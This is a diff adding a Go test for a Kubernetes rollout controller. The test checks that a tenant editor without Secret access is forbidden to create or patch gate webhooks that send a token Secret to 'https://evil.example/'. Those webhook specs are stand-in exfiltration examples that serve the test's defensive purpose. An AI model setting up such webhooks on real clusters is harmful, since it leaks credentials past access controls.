@@ -1,0 +1,87 @@
+package apiserver_test
+
+import (
+	"fmt"
+	"strings"
+	"testing"
+
+	rbacv1 "k8s.io/api/rbac/v1"
+	apierrors "k8s.io/apimachinery/pkg/api/errors"
+	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
+	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
+	"k8s.io/apimachinery/pkg/types"
+	"k8s.io/client-go/dynamic"
+	"k8s.io/client-go/kubernetes"
+	"sigs.k8s.io/yaml"
+
+	"muster.dev/muster/control/api/kinds"
+	"muster.dev/muster/internal/fleet"
+	"muster.dev/muster/internal/testkit/kubeapi"
+)
+
+// An editor of a tenant, who may not read the Secrets of its system namespace, has none of
+// them sent to an address of theirs by a gate.
+func TestGatesSendNoSecretsOfOthers(t *testing.T) {
+	tenantWithUser(t, "gt", "{}")
+	admin := kubeapi.Start(t)
+	k := kubernetes.NewForConfigOrDie(admin)
+	as := map[string]under{}
+	for _, role := range kinds.TenantRoles {
+		name := "gt-" + role.Suffix
+		if _, err := k.RbacV1().Roles("gt-system").Create(t.Context(), &rbacv1.Role{ObjectMeta: metav1.ObjectMeta{Name: name}, Rules: role.Rules()}, metav1.CreateOptions{}); err != nil {
+			t.Fatal(err)
+		}
+		if _, err := k.RbacV1().RoleBindings("gt-system").Create(t.Context(), &rbacv1.RoleBinding{ObjectMeta: metav1.ObjectMeta{Name: name},
+			RoleRef: rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "Role", Name: name}, Subjects: []rbacv1.Subject{{Kind: "User", Name: kubeapi.Prefix + name}}}, metav1.CreateOptions{}); err != nil {
+			t.Fatal(err)
+		}
+		kubeapi.WaitAllowed(t, admin, kubeapi.Prefix+name, nil, "get", "rollouts.muster.dev", "gt-system")
+		as[role.Suffix] = under{t, dynamic.NewForConfigOrDie(quick(kubeapi.As(t, name))), "gt-system"}
+	}
+	editor, owner := as[fleet.TenantEditor], as[fleet.TenantAdmin]
+	gates := func(url, secret string) string {
+		return fmt.Sprintf(`[{name: hook, webhook: {url: "%s", tokenSecret: "%s"}}]`, url, secret)
+	}
+	docs := map[string]func(name, gates string) string{
+		"gatechecks": func(name, gates string) string {
+			return "{apiVersion: muster.dev/v1alpha1, kind: GateCheck, metadata: {name: " + name + "}, spec: {sites: [paris], gates: " + gates + "}}"
+		},
+		"rolloutpolicies": func(name, gates string) string {
+			return "{apiVersion: muster.dev/v1alpha1, kind: RolloutPolicy, metadata: {name: " + name + "}, spec: {gates: " + gates + "}}"
+		},
+		"rollouts": func(name, gates string) string {
+			return "{apiVersion: muster.dev/v1alpha1, kind: Rollout, metadata: {name: " + name + `}, spec: {changes: [{apiVersion: apps/v1, kind: Deployment, name: web, images: {a: "web:2"}}], gates: ` + gates + "}}"
+		},
+	}
+	create := func(u under, resource, doc string) error {
+		o := &unstructured.Unstructured{}
+		if err := yaml.Unmarshal([]byte(doc), &o.Object); err != nil {
+			t.Fatal(err)
+		}
+		_, err := u.of(resource).Create(t.Context(), o, metav1.CreateOptions{})
+		return err
+	}
+	refused := func(what string, err error) {
+		t.Helper()
+		if !apierrors.IsForbidden(err) || !strings.Contains(err.Error(), "webhook.tokenSecret") {
+			t.Errorf("%s: %v, want it forbidden", what, err)
+		}
+	}
+	for resource, doc := range docs {
+		refused(resource+" that sends a Secret away", create(editor, resource, doc("stolen", gates("https://evil.example/", "pager"))))
+		if err := create(editor, resource, doc("plain", gates("https://evil.example/", ""))); err != nil {
+			t.Errorf("%s without a Secret: %v", resource, err)
+		}
+		if err := create(owner, resource, doc("good", gates("https://gates.example/", "pager"))); err != nil {
+			t.Errorf("%s of who may read Secrets: %v", resource, err)
+		}
+	}
+	patch := func(doc string) error {
+		_, err := editor.of("rolloutpolicies").Patch(t.Context(), "good", types.MergePatchType, []byte(doc), metav1.PatchOptions{})
+		return err
+	}
+	if err := patch(`{"spec":{"priority":7}}`); err != nil {
+		t.Errorf("something else of it: %v", err)
+	}
+	refused("another address for the same Secret", patch(`{"spec":{"gates":[{"name":"hook","webhook":{"url":"https://evil.example/","tokenSecret":"pager"}}]}}`))
+}
